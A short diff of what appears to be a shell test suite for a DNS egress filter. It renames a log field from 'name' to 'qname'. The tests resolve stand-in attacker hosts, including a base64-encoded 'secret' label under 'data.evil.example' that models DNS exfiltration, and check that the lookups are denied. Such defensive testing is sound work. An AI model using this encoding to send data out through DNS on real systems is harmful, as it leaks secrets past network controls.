@@ -76,7 +76,7 @@ names_stay_in() { # ID
 	check "a name not listed does not exist" \
 		eq "$(resolve "$id" collector.evil.example)" NXDOMAIN
 	check "  and is recorded by name" denied "$id" layer=dns \
-		reason=dns-denied name=collector.evil.example
+		reason=dns-denied qname=collector.evil.example
 	check "data in a name does not leave" \
 		eq "$(resolve "$id" c2VjcmV0.data.evil.example)" NXDOMAIN
 	check "two labels are more than * allows" \
